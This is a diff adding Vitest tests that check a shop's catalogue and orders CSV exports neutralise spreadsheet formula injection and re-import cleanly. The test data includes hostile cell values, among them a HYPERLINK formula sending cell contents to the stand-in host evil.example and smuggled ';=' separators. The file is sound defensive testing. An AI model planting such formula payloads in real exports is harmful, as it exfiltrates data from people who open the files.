@@ -4,7 +4,7 @@ import { renderToStaticMarkup } from "react-dom/server";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { SalesChart } from "~/components/admin/sales-chart";
 import { CATALOG_COLUMNS } from "~/lib/catalog-csv";
-import { decodeCsvFile, parseCsv } from "~/lib/csv";
+import { csvLine, decodeCsvFile, parseCsv } from "~/lib/csv";
 import { CHART } from "~/lib/sales-chart";
 import { applyCatalogImport, previewCatalogImport } from "~/models/catalog-import.server";
 import { streamCatalogCsv } from "~/models/exports.server";
@@ -12,6 +12,7 @@ import { loader as rootLoader } from "~/root";
 import { loader as adminLayoutLoader } from "~/routes/admin";
 import { loader as adminIndexLoader } from "~/routes/admin._index";
 import { action as importAction } from "~/routes/admin.importar";
+import { loader as catalogueCsvLoader } from "~/routes/admin.exportar.catalogo[.csv]";
 import { loader as ordersCsvLoader } from "~/routes/admin.exportar.pedidos[.csv]";
 import { prisma } from "~/utils/db.server";
 import { createCategories, createProduct, resetDatabase } from "../db-utils";
@@ -298,5 +299,97 @@ describe("orders export", () => {
       }),
     );
     expect(bad.status).toBe(400);
+  });
+});
+
+/** The cells of a CSV line as a spreadsheet that splits on `separator` sees them (quotes honoured). */
+function spreadsheetCells(text: string, separator: "," | ";"): string[] {
+  const cells: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (const char of text) {
+    if (char === '"') quoted = !quoted;
+    else if (!quoted && char === separator) {
+      cells.push(cell);
+      cell = "";
+    } else if (!quoted && (char === "\n" || char === "\r")) {
+      if (cell !== "") cells.push(cell);
+      cell = "";
+    } else cell += char;
+  }
+  cells.push(cell);
+  return cells;
+}
+
+describe("CSV injection (a hostile name or address opened in Excel)", () => {
+  const hostileName = 'Ciudad;=HYPERLINK("http://evil.example/?d="&A1,"Ver")';
+
+  it("the export route quotes and neutralises them for both list separators, and the import reads them back", async () => {
+    await createProduct({ name: hostileName, description: "'=ya con apóstrofo", material: "-plata;+oro" });
+    await createProduct({ name: "@SUMA(A1)", description: "l'arte", material: null });
+    const admin = await staffSession("admin");
+    const outcome = await catalogueCsvLoader({
+      request: getRequest("/admin/exportar/catalogo.csv", admin.cookie),
+      params: {},
+      context: {},
+    });
+    const text = decodeCsvFile(new Uint8Array(await outcome.arrayBuffer()));
+    for (const separator of [",", ";"] as const) {
+      for (const cell of spreadsheetCells(text, separator)) expect(cell, separator).not.toMatch(/^\s*[=+\-@\t\r]/);
+    }
+    expect(text).toContain(`"${hostileName.replace(/"/g, '""')}"`);
+    expect(text).toContain(`"'@SUMA(A1)"`);
+
+    // Imported back as it is: nothing changes (no apostrophe ends up in a name).
+    expect(await previewCatalogImport(text)).toMatchObject({ ok: true, summary: { unchanged: 2, updated: 0 } });
+    // Imported as new products: the same values exactly.
+    const parsed = parseCsv(text)!;
+    const id = parsed.header.indexOf("producto_id");
+    const rows = parsed.rows.map((row) => row.map((cell, i) => (i === id ? "" : cell)));
+    await prisma.product.deleteMany();
+    const file = [parsed.header, ...rows].map((row) => csvLine(row)).join("");
+    expect(await applyCatalogImport({ id: admin.user.id, email: admin.user.email }, file)).toMatchObject({
+      ok: true,
+      summary: { created: 2 },
+    });
+    const products = await prisma.product.findMany({
+      orderBy: { name: "asc" },
+      select: { name: true, description: true, material: true },
+    });
+    expect(products).toEqual([
+      { name: "@SUMA(A1)", description: "l'arte", material: null },
+      { name: hostileName, description: "'=ya con apóstrofo", material: "-plata;+oro" },
+    ]);
+  });
+
+  it("the orders export keeps an address's `;=1+2` in its own quoted cell", async () => {
+    await seedMonth();
+    const order = await prisma.order.findFirstOrThrow({ orderBy: { id: "asc" }, select: { id: true, userId: true } });
+    await prisma.address.create({
+      data: {
+        orderId: order.id,
+        userId: order.userId,
+        name: '=HYPERLINK("http://evil.example")',
+        phone: "5512345678",
+        addressLine1: "Calle 1",
+        addressLine2: "Centro",
+        city: "Puebla;=1+2",
+        state: "Puebla",
+        postalCode: "72000",
+      },
+    });
+    const { cookie } = await staffSession("worker");
+    const outcome = await ordersCsvLoader({
+      request: getRequest("/admin/exportar/pedidos.csv", cookie),
+      params: {},
+      context: {},
+    });
+    const text = decodeCsvFile(new Uint8Array(await outcome.arrayBuffer()));
+    expect(text).toContain('"Puebla;=1+2"');
+    for (const separator of [",", ";"] as const) {
+      for (const cell of spreadsheetCells(text, separator)) expect(cell, separator).not.toMatch(/^\s*[=+\-@\t\r]/);
+    }
+    const row = parseCsv(text)!.rows.find((r) => r.includes("Puebla;=1+2"))!;
+    expect(row).toContain('=HYPERLINK("http://evil.example")');
   });
 });
